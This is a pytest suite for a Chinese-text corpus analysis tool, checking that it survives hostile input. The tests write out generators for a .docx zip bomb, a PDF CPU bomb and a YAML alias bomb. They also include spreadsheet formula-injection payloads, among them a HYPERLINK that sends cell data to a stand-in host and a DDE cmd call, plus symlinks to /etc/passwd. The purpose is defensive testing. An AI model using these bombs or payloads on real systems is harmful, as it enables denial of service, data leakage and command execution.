"""Hostile and broken input (issue 9): every input is built here, in a temporary folder, and the real
commands run on it in a subprocess with a time limit. Each test asserts what the user sees: the good
files beside the bad one are all ingested, the bad one is reported with the reason, the input folder is
byte-for-byte unchanged, no traceback reaches the terminal, and the run's peak memory stays under 1 GB
(the largest resident set of any process of the run, from ``getrusage(RUSAGE_CHILDREN)``).
"""

from __future__ import annotations

import csv as csv_module
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import textwrap
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest

ROOT = Path(__file__).resolve().parents[1]
RAW = ROOT / "data" / "raw"
PEAK_LIMIT_KB = 1024 * 1024  # 1 GiB, as ru_maxrss counts it (KiB on Linux)

# Runs a command, then prints the peak resident set of the largest process it (or any descendant it
# waited for) ever had, as the last line of stderr.
_MEASURE = (
    "import resource, subprocess, sys\n"
    "rc = subprocess.call(sys.argv[1:])\n"
    "print(f'PEAK_KB={resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss}', file=sys.stderr)\n"
    "sys.exit(rc)\n"
)

GOOD_TEXT = "中国联通召开党风廉政建设工作会议\n2023年3月1日\n会议强调，要坚定不移推进全面从严治党，深化“三不腐”一体推进。\n"


@dataclass
class Run:
    returncode: int
    stdout: str
    stderr: str
    peak_kb: int


def run_cli(
    *args: str | os.PathLike[str], timeout: float = 180, cwd: Path | None = None, env: dict | None = None
) -> Run:
    """``python -m analysis ARGS`` in a subprocess; asserts no traceback and peak memory under 1 GiB."""
    full_env = {**os.environ, "TEXTLAB_PROGRESS": "0", **(env or {})}
    proc = subprocess.run(
        [sys.executable, "-c", _MEASURE, sys.executable, "-m", "analysis", *map(os.fsdecode, args)],
        capture_output=True,
        timeout=timeout,
        cwd=cwd or ROOT,
        env=full_env,
    )
    stdout = proc.stdout.decode("utf-8", "backslashreplace")
    stderr = proc.stderr.decode("utf-8", "backslashreplace")
    lines = stderr.rstrip("\n").split("\n")
    assert lines[-1].startswith("PEAK_KB="), stderr
    run = Run(proc.returncode, stdout, "\n".join(lines[:-1]), int(lines[-1].split("=", 1)[1]))
    assert "Traceback" not in run.stdout + run.stderr, run.stderr
    assert run.returncode >= 0, f"killed by signal {-run.returncode}: {run.stderr}"
    assert run.peak_kb < PEAK_LIMIT_KB, f"peak memory {run.peak_kb / 1024:.0f} MiB"
    return run


def snapshot(folder: Path) -> dict[bytes, tuple]:
    """Everything about a folder that a write could change: names, types, sizes, times, bytes, links."""
    state: dict[bytes, tuple] = {}
    base = os.fsencode(folder)
    for dirpath, dirnames, filenames in os.walk(base):
        for name in dirnames + filenames:
            p = os.path.join(dirpath, name)
            st = os.lstat(p)
            rel = os.path.relpath(p, base)
            if os.path.islink(p):
                state[rel] = ("link", os.readlink(p))
            elif os.path.isfile(p):
                with open(p, "rb") as fh:
                    state[rel] = (
                        "file",
                        st.st_mode,
                        st.st_size,
                        st.st_mtime_ns,
                        hashlib.sha256(fh.read()).hexdigest(),
                    )
            else:
                state[rel] = ("other", st.st_mode, st.st_mtime_ns)
        st = os.lstat(dirpath)
        state[os.path.relpath(dirpath, base) + b"/"] = ("dir", st.st_mode, st.st_mtime_ns)
    return state


def corpus_with_good_files(folder: Path, n: int = 3) -> list[str]:
    """A folder holding ``n`` ordinary documents; returns their relative paths."""
    folder.mkdir(parents=True, exist_ok=True)
    names = []
    for i in range(n):
        name = f"good_{i}.txt"
        (folder / name).write_text(
            GOOD_TEXT.replace("2023年3月1日", f"2023年3月{i + 1}日") + f"第{i}篇。\n", encoding="utf-8"
        )
        names.append(name)
    return names


def ingest(
    corpus: Path, out: Path, *extra: str, timeout: float = 180
) -> tuple[Run, pd.DataFrame, pd.DataFrame]:
    """Run ``ingest`` and return (run, corpus table, ingest report); the input folder must not change."""
    before = snapshot(corpus)
    run = run_cli("ingest", corpus, "--out", out, "-q", *extra, timeout=timeout)
    assert snapshot(corpus) == before, "the input folder changed"
    assert run.returncode in (0, 1), run.stderr
    table = pd.read_parquet(out / "corpus.parquet")
    report = pd.read_csv(out / "ingest_report.csv", dtype=str, keep_default_na=False)
    return run, table, report


def reason_of(report: pd.DataFrame, path: str) -> str:
    rows = report[report["path"] == path]
    assert len(rows) == 1, f"{path} not in the report:\n{report}"
    return str(rows["reason"].iloc[0])


# ==================================================================================================
# 7. a flipped bit in a token-cache shard


FLIP_SCRIPT = textwrap.dedent(
    """
    import sys, warnings
    from pathlib import Path
    import pandas as pd
    from analysis import tokens as T
    warnings.simplefilter("ignore")
    root, step = Path(sys.argv[1]), int(sys.argv[2])
    texts = [p.read_text(encoding="utf-8") for p in sorted(Path(sys.argv[3]).glob("*.txt"))]
    corpus = pd.DataFrame({"doc_id": [str(i) for i in range(len(texts))], "text": texts})
    tok = T.Tokenizer()
    expected = T.tokenize(corpus, tok, cache_dir=root, n_jobs=1, progress=False).docs
    cache = T._Cache(root, tok)
    shard = cache.shards()[0]
    original = shard.read_bytes()
    for pos in range(0, len(original), step):
        for bit in (0, 5):
            damaged = bytearray(original)
            damaged[pos] ^= 1 << bit
            shard.write_bytes(bytes(damaged))
            parts = cache.read(shard)  # before validation, some of these crashed inside Arrow
            if parts is not None:
                print("accepted a damaged shard at", pos, bit)
                sys.exit(3)
    shard.write_bytes(original)
    assert cache.read(shard) is not None
    print("ok")
    """
)


def test_flipped_bits_in_a_token_shard_never_crash(tmp_path: Path) -> None:
    proc = subprocess.run(
        [sys.executable, "-c", FLIP_SCRIPT, str(tmp_path / "cache"), "11", str(RAW)],
        capture_output=True,
        text=True,
        timeout=300,
        cwd=ROOT,
    )
    assert proc.returncode == 0 and proc.stdout.strip().endswith("ok"), (
        proc.returncode,
        proc.stdout[-500:],
        proc.stderr[-2000:],
    )


def test_stats_repairs_a_damaged_token_cache(tmp_path: Path) -> None:
    env = {"TEXTLAB_CACHE": str(tmp_path / "cache")}
    first = run_cli("stats", RAW, "--out", tmp_path / "s1", "-q", env=env)
    assert first.returncode in (0, 1)
    (shard,) = (tmp_path / "cache").glob("tokens/*/shard-*.arrow")
    data = bytearray(shard.read_bytes())
    data[len(data) // 2] ^= 0x10
    shard.write_bytes(bytes(data))
    shutil.rmtree(tmp_path / "cache" / "stats")  # else the kept output files serve the run, tokens unread
    second = run_cli("stats", RAW, "--out", tmp_path / "s2", "-q", env=env)
    assert second.returncode == first.returncode
    assert "damaged" in second.stderr and shard.name in second.stderr
    assert (shard.parent / "damaged" / shard.name).exists()
    third = run_cli("stats", RAW, "--out", tmp_path / "s3", "-q", env=env)
    assert "damaged" not in third.stderr  # rebuilt: the next run finds a good shard
    for name in ("frequency.csv", "keyness.csv", "similarity.csv"):
        assert (
            (tmp_path / "s2" / name).read_bytes()
            == (tmp_path / "s1" / name).read_bytes()
            == (tmp_path / "s3" / name).read_bytes()
        )


# keep the imports used by later sections
_ = (json, shutil, pytest)


# ==================================================================================================
# 10. no command writes inside its input folder


@pytest.mark.parametrize("command", ["ingest", "stats", "report"])
@pytest.mark.parametrize("where", ["sub", "."])
def test_no_command_writes_inside_its_input_folder(tmp_path: Path, command: str, where: str) -> None:
    corpus = tmp_path / "corpus"
    corpus_with_good_files(corpus)
    before = snapshot(corpus)
    out = corpus / where
    args = (
        [command, corpus, "--out", out]
        if command != "report"
        else [command, "--corpus", corpus, "--out", out]
    )
    run = run_cli(*args, "-q" if command != "report" else "--only", *(["00"] if command == "report" else []))
    assert run.returncode == 2
    assert "inside the input folder" in run.stderr
    assert snapshot(corpus) == before


# ==================================================================================================
# 11. spreadsheet formula injection

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]


def test_csv_cells_are_neutralised_and_parquet_keeps_the_raw_text(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus_with_good_files(corpus, 1)
    for i, formula in enumerate(FORMULAS):
        front = f"---\ntitle: '{formula.replace(chr(39), chr(39) * 2)}'\ndate: 2023-05-0{i + 1}\n---\n"
        (corpus / f"f{i}.md").write_text(front + GOOD_TEXT + f"恶意公司第{i}次会议。\n", encoding="utf-8")
    companies = tmp_path / "companies.csv"
    companies.write_text(
        'company,alias,kind,weight,note\n"=HYPERLINK(""http://x"")",恶意公司,name,5,\n', encoding="utf-8"
    )
    _, table, _ = ingest(corpus, tmp_path / "out", "--companies", str(companies))
    assert set(FORMULAS) <= set(table["title"])  # Parquet: raw text
    csv = pd.read_csv(tmp_path / "out" / "corpus.csv", dtype=str, keep_default_na=False)
    assert {"'" + f for f in FORMULAS} <= set(csv["title"])
    assert '\'=HYPERLINK("http://x")' in set(csv["company"])
    assert (csv["chars"].str.match(r"^\d+$")).all()  # numbers untouched

    stats = run_cli(
        "stats", tmp_path / "out" / "corpus.parquet", "--out", tmp_path / "s", "--companies", companies, "-q"
    )
    assert stats.returncode in (0, 1)
    for name in ("frequency.csv", "tfidf.csv", "slogans.csv", "keyness.csv", "similarity.csv"):
        text = (tmp_path / "s" / name).read_text(encoding="utf-8")
        cells = [c for row in csv_module.reader(io.StringIO(text)) for c in row]
        assert not any(c.startswith(("=", "+", "@")) for c in cells), (name, text[:500])
    freq = pd.read_csv(tmp_path / "s" / "frequency.csv", dtype=str)
    assert '\'=HYPERLINK("http://x")' in set(freq["group"])
    assert pd.to_numeric(freq["count"]).gt(0).all()


def test_figure_tables_are_neutralised(tmp_path: Path) -> None:
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    from analysis.plots import save_figure

    fig, ax = plt.subplots()
    ax.plot([1, 2])
    table = pd.DataFrame({"company": ["=1+1", "中国联通"], "value": [-1.5, 2.0]}).set_index("company")
    written = save_figure(fig, tmp_path, "t", table=table)
    plt.close(fig)
    back = pd.read_csv(written["csv"], dtype=str)
    assert list(back["company"]) == ["'=1+1", "中国联通"] and list(back["value"]) == ["-1.5", "2.0"]


# ==================================================================================================
# the per-file budget runner (analysis.ingest.limits)


def _job(kind: str) -> str:
    import re
    import signal as sig

    if kind == "slow":  # C-level work that never checks for signals: catastrophic backtracking
        re.match(r"(a+)+$", "a" * 40 + "b")
    elif kind == "hog":
        blocks = [bytearray(64 * 1024 * 1024) for _ in range(40)]  # 2.5 GB, touched
        return str(len(blocks))
    elif kind == "crash":
        os.kill(os.getpid(), sig.SIGSEGV)
    elif kind == "raise":
        raise ValueError("boom")
    elif kind == "nap":  # long enough for the parent to look at the worker's memory
        import time

        time.sleep(1.5)
    return f"done {kind}"


@pytest.mark.parametrize("n_jobs", [1, 2])
def test_budget_runner_kills_and_replaces_overrunning_workers(n_jobs: int) -> None:
    import time

    from analysis.ingest.limits import Limits, run_budgeted

    jobs = ["a", "slow", "b", "hog", "c", "crash", "d", "raise", "e"]
    t0 = time.monotonic()
    results = run_budgeted(
        _job, jobs, failed=lambda job, reason: f"{job}: {reason}", n_jobs=n_jobs,
        limits=Limits(seconds=6, memory_mb=400),
    )  # fmt: skip
    # "slow" never ends; 6 s leaves the hog room to reach its memory limit first on a loaded machine
    assert time.monotonic() - t0 < 40
    assert results[0::2] == ["done a", "done b", "done c", "done d", "done e"]
    assert results[1].startswith("slow: time limit: still running after 6 s")
    assert results[3].startswith("hog: memory limit: more than 400 MB")
    assert results[5].startswith("crash: the reader crashed") and "SIGSEGV" in results[5]
    assert results[7] == "raise: unexpected error: ValueError: boom"


def test_a_big_parent_does_not_count_against_a_workers_memory_budget() -> None:
    # a notebook kernel holding a large corpus forks the workers: its pages are not the file's doing
    from analysis.ingest.limits import Limits, run_budgeted

    ballast = b"x" * (600 * 1024 * 1024)  # written, so resident in this process and shared by a fork
    results = run_budgeted(
        _job, ["a", "nap"], failed=lambda job, reason: f"{job}: {reason}", n_jobs=1,
        limits=Limits(seconds=30, memory_mb=400),
    )  # fmt: skip
    assert len(ballast) and results == ["done a", "done nap"]


def test_limits_refuse_non_finite_values() -> None:
    from analysis.errors import AnalysisError
    from analysis.ingest.limits import Limits

    for bad in (float("inf"), float("nan"), 0, -1):
        with pytest.raises(AnalysisError):
            Limits(seconds=bad)


# ==================================================================================================
# 1. .docx zip bomb


def _docx_bytes(paragraphs: list[str]) -> bytes:
    import io

    import docx

    document = docx.Document()
    for p in paragraphs:
        document.add_paragraph(p)
    buf = io.BytesIO()
    document.save(buf)
    return buf.getvalue()


def write_docx_bomb(path: Path, unpacked_mb: int = 300) -> None:
    """A valid .docx whose word/document.xml unpacks to ``unpacked_mb`` MB (about 1/1000 on disk)."""
    import io
    import zipfile

    template = zipfile.ZipFile(io.BytesIO(_docx_bytes(["炸弹"])))
    xml = template.read("word/document.xml").decode("utf-8")
    head, tail = xml.split("<w:body>", 1)
    para = "<w:p><w:r><w:t>" + "全面从严治党" * 200 + "</w:t></w:r></w:p>"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as out:
        for info in template.infolist():
            if info.filename != "word/document.xml":
                out.writestr(info, template.read(info))
        with out.open("word/document.xml", "w", force_zip64=True) as fh:
            fh.write((head + "<w:body>").encode())
            chunk = (para * 1000).encode()
            for _ in range(unpacked_mb * 1024 * 1024 // len(chunk) + 1):
                fh.write(chunk)
            fh.write(tail.encode())


def test_docx_zip_bomb_is_refused_before_unpacking(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus)
    (corpus / "real.docx").write_bytes(_docx_bytes([GOOD_TEXT, "中国移动召开会议。"]))
    write_docx_bomb(corpus / "bomb.docx")
    assert (corpus / "bomb.docx").stat().st_size < 2 * 1024 * 1024
    run, table, report = ingest(corpus, tmp_path / "out", timeout=90)
    assert run.returncode == 1
    assert set(table["path"]) == {*good, "real.docx"}
    reason = reason_of(report, "bomb.docx")
    assert reason.startswith("decompressed-size limit") and "limit 256 MB" in reason


# ==================================================================================================
# 3. PDF CPU bomb: a tiny file whose pages share one content stream of 900,000 text operators


def write_pdf_bomb(path: Path, pages: int = 40, operators: int = 900_000) -> None:
    import zlib

    stream = zlib.compress(b"BT /F1 1 Tf " + b"(x) Tj " * operators + b"ET", 9)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids ["
        + b" ".join(b"%d 0 R" % (5 + i) for i in range(pages))
        + b"] /Count %d >>" % pages,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    for _ in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> "
            b"/Contents 4 0 R >>"
        )
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))


def test_pdf_cpu_bomb_hits_the_time_limit_and_the_run_goes_on(tmp_path: Path) -> None:
    import time

    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus, 70)  # enough files for two workers
    write_pdf_bomb(corpus / "bomb.pdf")
    assert (corpus / "bomb.pdf").stat().st_size < 20_000
    t0 = time.monotonic()
    run, table, report = ingest(corpus, tmp_path / "out", "--file-time-limit", "5", timeout=120)
    assert time.monotonic() - t0 < 60
    assert set(good) <= set(table["path"])
    # whatever library reads PDFs: the file is read within its budget, or skipped for the time limit
    if "bomb.pdf" not in set(table["path"]):
        assert run.returncode == 1
        assert reason_of(report, "bomb.pdf").startswith("time limit: still running after 5 s")


# ==================================================================================================
# 2. YAML alias bomb in front matter


def yaml_bomb(levels: int = 8) -> str:
    lines = ['a0: &a0 ["全面从严治党", "全面从严治党", "全面从严治党", "全面从严治党", "全面从严治党"]']
    for k in range(1, levels + 1):
        lines.append(f"a{k}: &a{k} [" + ", ".join([f"*a{k - 1}"] * 9) + "]")
    return "---\ntitle: 炸弹\n" + "\n".join(lines) + "\n---\n"


def test_yaml_alias_bomb_in_front_matter_is_refused(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus)
    (corpus / "bomb.md").write_text(
        yaml_bomb(8) + "中国联通召开会议，部署全面从严治党工作。\n", encoding="utf-8"
    )
    assert (corpus / "bomb.md").stat().st_size < 1500
    _, table, report = ingest(corpus, tmp_path / "out", "--file-time-limit", "20", timeout=60)
    assert set(good) <= set(table["path"])
    assert "bomb.md" not in set(report["path"])  # its body is ordinary text: kept, the front matter dropped
    row = table[table["path"] == "bomb.md"].iloc[0]
    assert "部署全面从严治党工作" in row["text"] and "a8" not in row["text"]


def test_front_matter_without_aliases_still_parses() -> None:
    from analysis.ingest.clean import split_front_matter

    meta, body = split_front_matter("---\ntitle: 标题\ntags: [a, b]\ndate: 2023-01-02\n---\n正文\n")
    assert meta == {"title": "标题", "tags": "a, b", "date": "2023-01-02"} and body == "正文\n"
    meta, body = split_front_matter("---\ntitle: &t 标题\nother: *t\n---\n正文\n")
    assert meta == {} and body == "正文\n"


# ==================================================================================================
# 14. non-finite parameter values


@pytest.mark.parametrize("value", ["1e999", "-1e999", "inf", "nan", "[2022, 1e999]"])
def test_non_finite_parameters_are_refused_at_the_edge(tmp_path: Path, value: str) -> None:
    corpus = tmp_path / "corpus"
    corpus_with_good_files(corpus)
    run = run_cli(
        "report", "--corpus", corpus, "--out", tmp_path / "out", "-p", f"year_min={value}", "--only", "00"
    )
    assert run.returncode == 2
    assert f"-p year_min={value}: not a finite number" in run.stderr
    assert not (tmp_path / "out").exists()  # refused before anything was written


@pytest.mark.parametrize("option", ["--file-time-limit", "--file-memory-limit"])
@pytest.mark.parametrize("value", ["inf", "nan", "1e999", "0", "-5"])
def test_non_finite_limits_are_refused(tmp_path: Path, option: str, value: str) -> None:
    run = run_cli("ingest", RAW, "--out", tmp_path / "out", option, value)
    assert run.returncode == 2 and option in run.stderr
    assert not (tmp_path / "out").exists()


# ==================================================================================================
# 5. file names that are not valid UTF-8


def test_file_names_of_any_bytes(tmp_path: Path) -> None:
    base = tmp_path / "c"
    base.mkdir()
    corpus = Path(os.fsdecode(os.fsencode(base) + b"/corpus_\xb9\xfa"))  # a GBK folder name
    good = corpus_with_good_files(corpus)
    Path(os.fsdecode(os.fsencode(corpus) + b"/badname_\xff\xfe.txt")).write_text(
        GOOD_TEXT + "坏名字。\n", encoding="utf-8"
    )
    sub = Path(os.fsdecode(os.fsencode(corpus) + b"/sub_\xd6\xd0"))
    sub.mkdir()
    (sub / "x.txt").write_text(GOOD_TEXT + "子目录。\n", encoding="utf-8")
    (sub / "bad.bin").write_bytes(b"\x00\x01")
    run, table, report = ingest(corpus, tmp_path / "out")
    assert run.returncode == 1  # bad.bin is skipped: "some files skipped, corpus written"
    assert set(table["path"]) == {*good, "badname_\\xff\\xfe.txt", "sub_\\xd6\\xd0/x.txt"}
    assert reason_of(report, "sub_\\xd6\\xd0/bad.bin").startswith("unsupported format")
    assert "badname_\\xff\\xfe.txt" in (tmp_path / "out" / "corpus.csv").read_text(encoding="utf-8")
    stats = run_cli("stats", corpus, "--out", tmp_path / "stats", "-q")
    assert stats.returncode in (0, 1) and (tmp_path / "stats" / "frequency.csv").exists()  # 1: one group
    overrides = tmp_path / "meta.csv"
    overrides.write_text("path,date\nbadname_\\xff\\xfe.txt,2020-01-01\n", encoding="utf-8")
    _, table, _ = ingest(corpus, tmp_path / "out2", "--metadata", str(overrides))
    row = table[table["path"] == "badname_\\xff\\xfe.txt"].iloc[0]
    assert row["date_from_override"] and row["date"] == pd.Timestamp("2020-01-01")


# ==================================================================================================
# 6. override dates outside pandas' range


def test_override_dates_out_of_range_are_warned_and_ignored(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus, 5)
    overrides = tmp_path / "meta.csv"
    values = ["9999-12-31", "0001-01-01", "2262-04-12", "2024-02-30", "2024-02-22"]
    overrides.write_text(
        "path,date\n" + "".join(f"{g},{v}\n" for g, v in zip(good, values, strict=True)), encoding="utf-8"
    )
    run, table, report = ingest(corpus, tmp_path / "out", "--metadata", str(overrides))
    assert run.returncode == 0 and set(table["path"]) == set(good)
    reasons = list(report.loc[report["path"] == "meta.csv", "reason"])
    for n, v in enumerate(values[:3], start=2):
        assert f"row {n}: date '{v}' outside the supported range 1677-09-22 to 2262-04-11; ignored" in reasons
    assert "row 5: invalid date '2024-02-30' (use YYYY-MM-DD); ignored" in reasons
    by_path = table.set_index("path")
    assert (
        by_path.loc[good[4], "date"] == pd.Timestamp("2024-02-22")
        and by_path.loc[good[4], "date_from_override"]
    )
    assert not by_path.loc[good[:4], "date_from_override"].any()
    assert (by_path.loc[good[:4], "date"].dt.year == 2023).all()  # the extracted dates are kept


# ==================================================================================================
# 8. links that leave the corpus folder


def test_links_out_of_the_corpus_folder_are_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("中国联通机密文件，外部内容不得读取。\n", encoding="utf-8")
    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus)
    (corpus / "passwd.txt").symlink_to("/etc/passwd")
    (corpus / "secret.txt").symlink_to(outside / "secret.txt")
    (corpus / "everything").symlink_to("/")
    (corpus / "alias.txt").symlink_to(corpus / good[0])  # inside: still works
    (corpus / "sub").mkdir()
    (corpus / "sub" / "up.txt").symlink_to("../good_1.txt")
    run, table, report = ingest(corpus, tmp_path / "out", timeout=60)
    assert run.returncode == 1
    assert set(table["path"]) == {*good, "alias.txt", "sub/up.txt"}
    for name in ("passwd.txt", "secret.txt", "everything"):
        assert "outside the corpus folder" in reason_of(report, name) and "--follow-links" in reason_of(
            report, name
        )
    assert not table["text"].str.contains("root:").any()
    # sub/up.txt leaves the folder "sub": skipped there, unless the user asks for links to be followed
    refused = run_cli("ingest", corpus / "sub", "--out", tmp_path / "out2", "-q")
    assert refused.returncode == 2 and not (tmp_path / "out2" / "corpus.parquet").exists()
    followed = run_cli("ingest", corpus / "sub", "--out", tmp_path / "out3", "--follow-links", "-q")
    assert followed.returncode == 0
    assert list(pd.read_parquet(tmp_path / "out3" / "corpus.parquet")["path"]) == ["up.txt"]


# ==================================================================================================
# 12. a metadata row applies to the document at its path only


def test_metadata_rows_match_by_path_and_bare_names_only_when_unique(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus_with_good_files(corpus, 1)
    for folder in ("sub", "a", "b"):
        (corpus / folder).mkdir()
    (corpus / "sub" / "x.txt").write_text(GOOD_TEXT + "子目录文件。\n", encoding="utf-8")
    (corpus / "unique.txt").write_text(GOOD_TEXT + "唯一文件。\n", encoding="utf-8")
    (corpus / "a" / "dup.txt").write_text(GOOD_TEXT + "重名一。\n", encoding="utf-8")
    (corpus / "b" / "dup.txt").write_text(GOOD_TEXT + "重名二。\n", encoding="utf-8")
    overrides = tmp_path / "meta.csv"
    overrides.write_text(
        "path,title\n"
        "../../elsewhere/x.txt,外部\n"  # must not reach sub/x.txt
        "other/x.txt,别处\n"
        "unique.txt,唯一\n"
        "dup.txt,重名\n"
        "./a/dup.txt,甲\n",
        encoding="utf-8",
    )
    _, table, report = ingest(corpus, tmp_path / "out", "--metadata", str(overrides))
    titles = table.set_index("path")["title"]
    assert titles["sub/x.txt"] != "外部" and titles["sub/x.txt"] != "别处"
    assert titles["unique.txt"] == "唯一" and titles["a/dup.txt"] == "甲" and titles["b/dup.txt"] != "重名"
    reasons = " | ".join(report.loc[report["path"] == "meta.csv", "reason"])
    assert "row 2: path '../../elsewhere/x.txt' matches no document" in reasons
    assert "row 3: path 'other/x.txt' matches no document" in reasons
    assert "row 5: path 'dup.txt' matches no document" in reasons


# ==================================================================================================
# 9 and 13. report: a killed run writes nothing afterwards and leaves nothing behind


def _private_dirs(tmp_path: Path) -> dict[str, str]:
    """TMPDIR and Jupyter's runtime folder of the run, private to the test, to look for leftovers."""
    env = {"TMPDIR": str(tmp_path / "tmp"), "JUPYTER_RUNTIME_DIR": str(tmp_path / "runtime")}
    for d in env.values():
        Path(d).mkdir()
    return env


def _processes_mentioning(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            cmdline = (
                Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
            )
        except OSError:
            continue
        if marker in cmdline:
            found.append(f"{pid}: {cmdline[:200]}")
    return found


def _hidden_entries(folder: Path) -> list[str]:
    return sorted(str(p.relative_to(folder)) for p in folder.rglob(".*"))


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_report_leaves_no_temporary_files(tmp_path: Path) -> None:
    env = _private_dirs(tmp_path)
    corpus = tmp_path / "corpus"
    shutil.copytree(RAW, corpus)
    out = tmp_path / "reports"
    run = run_cli("report", "--corpus", corpus, "--out", out, "--only", "00", env=env, timeout=300)
    assert run.returncode == 0, run.stderr
    assert (out / "00-corpus-overview.html").exists() and (out / "data" / "corpus.parquet").exists()
    assert os.listdir(env["TMPDIR"]) == [], "files left in the temporary folder"
    assert [f for f in os.listdir(env["JUPYTER_RUNTIME_DIR"]) if f.startswith("kernel")] == []
    assert _hidden_entries(out) == []
    assert _processes_mentioning(str(out)) == [] and _processes_mentioning(env["JUPYTER_RUNTIME_DIR"]) == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_report_killed_mid_run_writes_nothing_afterwards(tmp_path: Path) -> None:
    import signal
    import time

    env = _private_dirs(tmp_path)
    corpus = tmp_path / "corpus"
    shutil.copytree(RAW, corpus)
    out = tmp_path / "reports"
    args = ["report", "--corpus", corpus, "--out", out, "--only", "00", "--only", "30", "--only", "40"]
    first = run_cli(*args, env=env, timeout=400)
    assert first.returncode == 0, first.stderr
    before = snapshot(out)
    index = (out / "index.html").read_text(encoding="utf-8")
    assert all(f"{n}.html" in index for n in ("00-corpus-overview", "30-year-trends", "40-slogans"))

    proc = subprocess.Popen(
        [sys.executable, "-m", "analysis", *map(os.fsdecode, args)],
        cwd=ROOT,
        env={**os.environ, "TEXTLAB_PROGRESS": "0", **env},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 300
    old_pages = {p: p.stat().st_mtime_ns for p in out.glob("*.html")}

    def a_page_is_ready() -> bool:  # staged for the commit, or (old runner) already over the old one
        staged = any(out.glob(".textlab-run-*/*.html"))
        return staged or any(p.stat().st_mtime_ns != t for p, t in old_pages.items() if p.exists())

    while not a_page_is_ready() and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.2)
    assert proc.poll() is None, "the run ended before it could be killed"
    os.kill(proc.pid, signal.SIGKILL)  # the main process only, as `kill -9 PID` does
    proc.wait()
    time.sleep(15)  # the old runner's workers rewrote the pages 1-11 s after the kill
    assert _processes_mentioning(str(out)) == [], "workers outlived the command"
    assert _processes_mentioning(env["JUPYTER_RUNTIME_DIR"]) == [], "kernels outlived the command"
    after = snapshot(out)
    # the output folder's own mtime changes (its staging folder came and went); nothing in it may
    before.pop(b"./"), after.pop(b"./")
    assert after == before, "the killed run changed the previous reports"
    assert _hidden_entries(out) == []
    assert os.listdir(env["TMPDIR"]) == []
    assert [f for f in os.listdir(env["JUPYTER_RUNTIME_DIR"]) if f.startswith("kernel")] == []


# ==================================================================================================
# 4. one very long document: no step of ingestion worse than linear


def long_document(chars: int) -> str:
    """News-like text of about ``chars`` characters: varied sentences, hard-wrapped, some repeated."""
    import random

    rng = random.Random(4)
    words = ["中国联通", "党风廉政", "建设", "工作会议", "强调", "坚定不移", "推进", "全面从严治党", "深化",
             "三不腐", "一体推进", "基层", "监督", "干部", "作风", "整治", "形式主义", "落实", "责任"]  # fmt: skip
    lines, size = [], 0
    while size < chars:
        sentence = "".join(rng.choice(words) for _ in range(rng.randint(4, 12))) + "。"
        lines.append(
            sentence if rng.random() > 0.05 else lines[rng.randrange(len(lines))] if lines else sentence
        )
        size += len(lines[-1])
    return "\n".join(lines) + "\n"


def test_a_long_document_is_ingested_in_linear_time(tmp_path: Path) -> None:
    import time

    corpus = tmp_path / "corpus"
    good = corpus_with_good_files(corpus)
    (corpus / "long.txt").write_text(long_document(700_000), encoding="utf-8")  # about 2 MB
    (corpus / "one_line.txt").write_text("x" * 50_000_000, encoding="ascii")  # 50 MB on one line
    t0 = time.monotonic()
    _, table, report = ingest(corpus, tmp_path / "out", timeout=240)
    assert time.monotonic() - t0 < 120
    assert set(table["path"]) == {*good, "long.txt"}
    assert reason_of(report, "one_line.txt").startswith("character limit")


def _spawns_a_child(kind: str) -> str:
    import subprocess as sp

    if kind.startswith("spawn "):  # a program the reader started (as OCR starts Tesseract)
        sp.run(["sleep", kind.split()[1]], check=False)
    return f"done {kind}"


def test_a_killed_worker_takes_the_programs_it_started_with_it() -> None:
    import time

    from analysis.ingest.limits import Limits, run_budgeted

    # a duration of this run's own, so that no other process on the machine can be taken for ours
    seconds = f"300.{os.getpid()}{time.monotonic_ns() % 1000:03d}"
    t0 = time.monotonic()
    results = run_budgeted(
        _spawns_a_child, ["a", f"spawn {seconds}", "b"], failed=lambda job, reason: reason,
        limits=Limits(seconds=2),
    )  # fmt: skip
    assert time.monotonic() - t0 < 30
    assert results[0] == "done a" and results[2] == "done b" and results[1].startswith("time limit")
    time.sleep(0.5)
    assert [p for p in _processes_mentioning(f"sleep {seconds}") if "pytest" not in p] == []


